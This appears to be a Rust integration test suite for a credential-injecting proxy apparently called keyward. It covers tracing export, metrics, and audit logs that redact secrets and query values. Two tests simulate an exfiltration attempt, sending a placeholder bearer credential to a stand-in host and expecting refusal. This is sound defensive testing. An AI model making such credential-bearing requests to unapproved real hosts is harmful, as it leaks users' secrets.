//! Observability through the real binary: OTLP spans (gRPC and HTTP/protobuf) at a real OTLP receiver,
//! trace context from the agent to the upstream, Prometheus metrics that parse and move, and the audit log.
//! None of it may hold a secret value or a query value. (The dashboard and alert rules are checked against
//! the registered metrics by a unit test in `telemetry::metrics`.)

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::routes;
use crate::support::clients::curl;
use crate::support::echo::Echo;
use crate::support::otlp::{Collector, ReceivedSpan, CLIENT, SERVER};
use crate::support::proxy::Proxy;
use crate::support::SECRETS;

const TRACE_ID: &str = "4bf92f3577b34da6a3ce929d0e0e4736";
const AGENT_SPAN: &str = "00f067aa0ba902b7";
/// A query value the agent sends; it must never reach telemetry.
const QUERY_VALUE: &str = "private-words-77";

fn readonly_policy() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("policies/readonly")
}

fn with_policy(extra: &str) -> String {
    format!(
        "{}policy:\n  dir: \"{}\"\n{extra}",
        routes(),
        readonly_policy().display()
    )
}

/// Nothing secret, and no query value, in any attribute of any span.
fn assert_clean(spans: &[ReceivedSpan]) {
    for span in spans {
        let events = span.events.iter().flat_map(|(_, attributes)| attributes);
        for (key, value) in span.attributes.iter().chain(events) {
            assert!(!value.contains(QUERY_VALUE), "{key} holds a query value: {value}");
            for (_, secret) in SECRETS {
                assert!(!value.contains(secret), "{key} of {} holds a real secret", span.name);
            }
        }
    }
}

fn child<'a>(spans: &'a [ReceivedSpan], parent: &ReceivedSpan, name: &str) -> &'a ReceivedSpan {
    spans
        .iter()
        .find(|s| s.name == name && s.parent_span_id == parent.span_id)
        .unwrap_or_else(|| panic!("no {name} span under {}: {spans:#?}", parent.name))
}

#[tokio::test(flavor = "multi_thread")]
async fn spans_reach_an_otlp_grpc_collector_and_continue_the_agents_trace_to_the_upstream() {
    let collector = Collector::grpc().await;
    let echo = Echo::https().await;
    let proxy = Proxy::spawn(&with_policy(&format!(
        "telemetry:\n  traces:\n    endpoint: {}\n    protocol: grpc\n    flush_interval: 100ms\n    child_spans: true\n",
        collector.url()
    )))
    .await;
    let url = format!(
        "https://localhost:{}/v1/models?key=kw-placeholder-maps&q={QUERY_VALUE}",
        echo.port()
    );
    let traceparent = format!("traceparent: 00-{TRACE_ID}-{AGENT_SPAN}-01");
    let reply = curl(
        &proxy,
        &[
            "-H",
            &traceparent,
            "-H",
            "Authorization: Bearer kw-placeholder-openai",
            "-H",
            "X-Keyward-User: alice",
            &url,
        ],
    )
    .await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let spans = collector
        .wait_for("the request's server, policy, secrets and upstream spans", |spans| {
            spans.iter().filter(|s| s.trace_id == TRACE_ID).count() >= 4
        })
        .await;
    let root = spans.iter().find(|s| s.kind == SERVER).expect("a server span");
    assert_eq!(root.trace_id, TRACE_ID, "the agent's trace is continued");
    assert_eq!(root.parent_span_id, AGENT_SPAN, "the agent's span is the parent");
    assert_eq!(root.name, "GET echo");
    assert_eq!(root.service, "keyward");
    for (key, value) in [
        ("keyward.agent.id", "test-agent"),
        ("keyward.user.id", "alice"),
        ("keyward.route", "echo"),
        ("keyward.policy.decision", "allow"),
        ("keyward.ratelimited", "false"),
        ("http.request.method", "GET"),
        ("http.response.status_code", "200"),
        ("http.request.resend_count", "0"),
        ("url.path", "/v1/models"),
        ("url.query", "key=REDACTED&q=REDACTED"),
        ("server.address", "localhost"),
    ] {
        assert_eq!(root.attr(key), Some(value), "{key} in {root:#?}");
    }
    let credentials = root.attr("keyward.credential").unwrap();
    assert!(
        credentials.contains("openai_key") && credentials.contains("maps_key"),
        "{credentials}"
    );
    child(&spans, root, "keyward.policy");
    child(&spans, root, "keyward.secrets");
    let upstream = child(&spans, root, "keyward.upstream");
    assert_eq!(upstream.kind, CLIENT);
    assert_eq!(upstream.attr("http.response.status_code"), Some("200"));
    let seen = echo.requests()[0].header("traceparent").unwrap().to_string();
    assert_eq!(
        seen,
        format!("00-{TRACE_ID}-{}-01", upstream.span_id),
        "the upstream continues the same trace under the upstream span"
    );
    assert_clean(&spans);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_http_protobuf_exporter_is_configured_by_the_standard_otel_variables() {
    let collector = Collector::http().await;
    let echo = Echo::https().await;
    let url = collector.url();
    let proxy = Proxy::spawn_with_env(
        &with_policy(""),
        &[
            ("OTEL_EXPORTER_OTLP_ENDPOINT", url.as_str()),
            ("OTEL_EXPORTER_OTLP_PROTOCOL", "http/protobuf"),
        ],
    )
    .await;
    let base = format!("https://localhost:{}/v1/models", echo.port());
    assert_eq!(curl(&proxy, &[&base]).await.status, 200);
    let denied = curl(&proxy, &["-X", "POST", "-d", "{}", &base]).await;
    assert_eq!(denied.status, 403);
    let spans = collector
        .wait_for("two server spans", |spans| {
            spans.iter().filter(|s| s.kind == SERVER).count() >= 2
        })
        .await;
    let get = spans
        .iter()
        .find(|s| s.kind == SERVER && s.attr("http.request.method") == Some("GET"))
        .unwrap();
    assert_eq!(get.parent_span_id, "", "without traceparent the proxy starts the trace");
    // By default the steps are events on the request span, which is the only span and the upstream's parent.
    assert_eq!(
        spans.iter().filter(|s| s.trace_id == get.trace_id).count(),
        1,
        "{spans:#?}"
    );
    assert_eq!(get.event("keyward.policy")["keyward.policy.decision"], "allow");
    assert!(get.event("keyward.secrets").contains_key("duration_us"));
    assert_eq!(get.event("keyward.upstream")["http.response.status_code"], "200");
    assert_eq!(
        echo.requests()[0].header("traceparent").unwrap(),
        format!("00-{}-{}-01", get.trace_id, get.span_id)
    );
    let post = spans
        .iter()
        .find(|s| s.kind == SERVER && s.attr("http.request.method") == Some("POST"))
        .unwrap();
    assert_eq!(post.attr("keyward.policy.decision"), Some("deny"));
    assert_eq!(post.attr("http.response.status_code"), Some("403"));
    assert_eq!(post.attr("error.type"), Some("policy_denied"));
    assert!(
        !spans
            .iter()
            .any(|s| s.trace_id == post.trace_id && s.name == "keyward.upstream"),
        "a denied request never reaches the upstream"
    );
    assert_clean(&spans);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stalled_collector_costs_dropped_spans_never_slow_requests() {
    // Accepts connections and never answers: every export waits for its timeout.
    let blackhole = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = blackhole.local_addr().unwrap();
    let echo = Echo::https().await;
    let proxy = Proxy::spawn(&format!(
        "{}telemetry:\n  traces:\n    endpoint: http://{addr}\n    max_queue: 2\n    max_batch: 1\n    export_timeout: 60s\n",
        routes()
    ))
    .await;
    let url = format!("https://localhost:{}/v1", echo.port());
    let started = Instant::now();
    for _ in 0..10 {
        assert_eq!(curl(&proxy, &[&url]).await.status, 200);
    }
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "requests finished well inside the exporter's timeout"
    );
    crate::support::eventually("spans dropped at the queue bound", Duration::from_secs(10), || {
        proxy.metric_sum("keyward_trace_spans_dropped_total", &[("reason", "queue_full")]) >= 1.0
    })
    .await;
    drop(blackhole);
}

/// Checks the exposition line by line against the Prometheus text format; returns metric family names.
fn parse_prometheus(text: &str) -> BTreeSet<String> {
    let mut families = BTreeSet::new();
    for line in text.lines() {
        if line == "# EOF" || line.is_empty() {
            continue;
        }
        if let Some(rest) = line.strip_prefix("# TYPE ") {
            let (name, kind) = rest.split_once(' ').unwrap();
            assert!(
                ["counter", "gauge", "histogram", "info", "unknown"].contains(&kind),
                "{line}"
            );
            families.insert(name.to_string());
            continue;
        }
        if line.starts_with("# HELP ") || line.starts_with("# UNIT ") {
            continue;
        }
        let (series, value) = line.rsplit_once(' ').unwrap_or_else(|| panic!("no value: {line}"));
        assert!(
            value.parse::<f64>().is_ok() || ["+Inf", "-Inf", "NaN"].contains(&value),
            "{line}"
        );
        let name_end = series.find('{').unwrap_or(series.len());
        let name = &series[..name_end];
        assert!(
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == ':'),
            "{line}"
        );
        if name_end < series.len() {
            let labels = &series[name_end..];
            assert!(labels.ends_with('}'), "{line}");
            let inner = &labels[1..labels.len() - 1];
            for pair in split_labels(inner) {
                let (key, value) = pair.split_once('=').unwrap_or_else(|| panic!("{line}"));
                assert!(key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'), "{line}");
                assert!(value.starts_with('"') && value.ends_with('"'), "{line}");
            }
        }
    }
    families
}

/// Label pairs split on commas outside quoted values.
fn split_labels(inner: &str) -> Vec<&str> {
    let (mut out, mut start, mut quoted, mut escaped) = (Vec::new(), 0, false, false);
    for (i, c) in inner.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '"' => quoted = !quoted,
            ',' if !quoted => {
                out.push(&inner[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    if start < inner.len() {
        out.push(&inner[start..]);
    }
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn metrics_parse_and_move_for_allowed_denied_rate_limited_and_exfiltration_requests() {
    let echo = Echo::https().await;
    let config = with_policy("").replace(
        "    hosts: [\"localhost:*\"]\n    allow_private: true\n",
        "    hosts: [\"localhost:*\"]\n    allow_private: true\n    rate_limit: { per_minute: 3, burst: 3 }\n",
    );
    let proxy = Proxy::spawn(&config).await;
    let url = format!("https://localhost:{}/v1/models?q={QUERY_VALUE}", echo.port());
    for _ in 0..2 {
        assert_eq!(curl(&proxy, &[&url]).await.status, 200);
    }
    // Rate limits come before the policy: the denied request takes the third token.
    let denied = curl(&proxy, &["-X", "POST", "-d", "{}", &url]).await;
    assert_eq!(denied.status, 403, "{denied:?}");
    let limited = curl(&proxy, &[&url]).await;
    assert_eq!(limited.status, 429, "{limited:?}");
    let exfil = format!("https://other.keyward.test:{}/upload", echo.port());
    let reply = curl(&proxy, &["-H", "Authorization: Bearer kw-placeholder-openai", &exfil]).await;
    assert_eq!(reply.status, 403);

    let (status, text) = proxy.admin_get("/metrics");
    assert_eq!(status, 200);
    let families = parse_prometheus(&text);
    assert!(families.contains("keyward_request_duration_seconds"), "{families:?}");
    let requests = |labels: &[(&str, &str)]| proxy.metric_sum("keyward_requests_total", labels);
    let echo_route = [("agent", "test-agent"), ("route", "echo")];
    assert_eq!(
        requests(&[
            echo_route[0],
            echo_route[1],
            ("method", "GET"),
            ("status_class", "2xx"),
            ("decision", "allow"),
            ("outcome", "forwarded")
        ]),
        2.0
    );
    assert_eq!(
        requests(&[
            echo_route[1],
            ("method", "POST"),
            ("status_class", "4xx"),
            ("decision", "deny"),
            ("outcome", "policy_denied")
        ]),
        1.0
    );
    assert_eq!(requests(&[echo_route[1], ("outcome", "rate_limited")]), 1.0);
    assert_eq!(
        requests(&[("route", "none"), ("outcome", "placeholder_not_bound")]),
        1.0
    );
    assert_eq!(
        proxy.metric_sum("keyward_rate_limited_total", &[("route", "echo"), ("scope", "route")]),
        1.0
    );
    assert_eq!(
        proxy.metric_sum("keyward_policy_denials_total", &[("route", "echo")]),
        1.0
    );
    assert!(
        text.contains("keyward_policy_denials_total{route=\"echo\",reason=\""),
        "{text}"
    );
    assert_eq!(
        proxy.metric_sum("keyward_exfiltration_attempts_total", &[("credential", "openai_key")]),
        1.0
    );
    assert_eq!(
        proxy.metric_sum("keyward_request_duration_seconds_count", &[("route", "echo")]),
        4.0
    );
    assert_eq!(
        proxy.metric_sum("keyward_upstream_duration_seconds_count", &[("route", "echo")]),
        2.0,
        "only forwarded requests reach the upstream"
    );
    assert_eq!(proxy.metric_sum("keyward_info", &[("agent", "test-agent")]), 1.0);
    assert_eq!(
        proxy.metric_sum("keyward_open_connections", &[]),
        0.0,
        "curl has closed its connections"
    );
    assert!(!text.contains(QUERY_VALUE));
    for (_, secret) in SECRETS {
        assert!(!text.contains(secret));
    }
    // The default audit output is stdout: one line per request.
    crate::support::eventually("five audit lines", Duration::from_secs(5), || {
        proxy.audit_lines().len() == 5
    })
    .await;
}

/// The audit line's fields, in the order the README documents them.
const AUDIT_FIELDS: &[&str] = &[
    "timestamp",
    "request_id",
    "trace_id",
    "agent_id",
    "user_id",
    "route",
    "method",
    "scheme",
    "host",
    "port",
    "path",
    "decision",
    "reason",
    "credentials",
    "status",
    "outcome",
    "ratelimited",
    "retries",
    "duration_ms",
    "upstream_ms",
    "bytes_in",
    "bytes_out",
];

#[tokio::test(flavor = "multi_thread")]
async fn audit_lines_go_to_a_file_with_the_documented_fields_and_no_secret_or_query_value() {
    let echo = Echo::https().await;
    let proxy = Proxy::spawn(&format!(
        "{}telemetry:\n  audit:\n    output: keyward-audit.jsonl\n",
        routes()
    ))
    .await;
    let url = format!(
        "https://localhost:{}/v1/items?key=kw-placeholder-maps&q={QUERY_VALUE}",
        echo.port()
    );
    let body = "x".repeat(1000);
    let sent = curl(
        &proxy,
        &[
            "-X",
            "PUT",
            "--data-binary",
            &body,
            "-H",
            "Authorization: Bearer kw-placeholder-openai",
            "-H",
            "X-Keyward-User: alice",
            &url,
        ],
    )
    .await;
    assert_eq!(sent.status, 200, "{sent:?}");
    let exfil = format!("https://other.keyward.test:{}/upload", echo.port());
    let refused = curl(&proxy, &["-H", "Authorization: Bearer kw-placeholder-openai", &exfil]).await;
    assert_eq!(refused.status, 403);
    let path = proxy.path("keyward-audit.jsonl");
    let mut text = String::new();
    crate::support::eventually("two audit lines in the file", Duration::from_secs(5), || {
        text = std::fs::read_to_string(&path).unwrap_or_default();
        text.lines().count() == 2
    })
    .await;
    assert!(
        proxy.audit_lines().is_empty(),
        "with a file configured, stdout stays empty"
    );
    let lines: Vec<serde_json::Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    for line in &lines {
        let keys: Vec<&str> = line.as_object().unwrap().keys().map(String::as_str).collect();
        let mut expected = AUDIT_FIELDS.to_vec();
        expected.sort_unstable();
        let mut keys_sorted = keys.clone();
        keys_sorted.sort_unstable();
        assert_eq!(keys_sorted, expected, "{line}");
        assert!(chrono::DateTime::parse_from_rfc3339(line["timestamp"].as_str().unwrap()).is_ok());
    }
    let ok = &lines[0];
    assert_eq!(ok["agent_id"], "test-agent");
    assert_eq!(ok["user_id"], "alice");
    assert_eq!(ok["route"], "echo");
    assert_eq!(ok["method"], "PUT");
    assert_eq!(ok["scheme"], "https");
    assert_eq!(ok["host"], "localhost");
    assert_eq!(ok["port"], echo.port());
    assert_eq!(ok["path"], "/v1/items?key=REDACTED&q=REDACTED");
    assert_eq!(ok["decision"], serde_json::Value::Null, "no policy configured");
    assert_eq!(ok["status"], 200);
    assert_eq!(ok["outcome"], "forwarded");
    assert_eq!(ok["trace_id"], serde_json::Value::Null, "tracing is off");
    assert_eq!(ok["ratelimited"], false);
    assert_eq!(ok["retries"], 0);
    assert_eq!(ok["bytes_in"], 1000);
    assert_eq!(ok["bytes_out"], sent.body.len() as u64);
    let names: Vec<&str> = ok["credentials"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(
        names.contains(&"openai_key") && names.contains(&"maps_key"),
        "{names:?}"
    );
    assert!(ok["duration_ms"].as_f64().unwrap() >= ok["upstream_ms"].as_f64().unwrap());
    let denied = &lines[1];
    assert_eq!(denied["status"], 403);
    assert_eq!(denied["outcome"], "placeholder_not_bound");
    assert_eq!(denied["upstream_ms"], serde_json::Value::Null);
    assert!(denied["reason"].as_str().unwrap().contains("not bound"), "{denied}");
    assert!(!text.contains(QUERY_VALUE));
    for (_, secret) in SECRETS {
        assert!(!text.contains(secret), "a real secret in the audit log");
    }
}
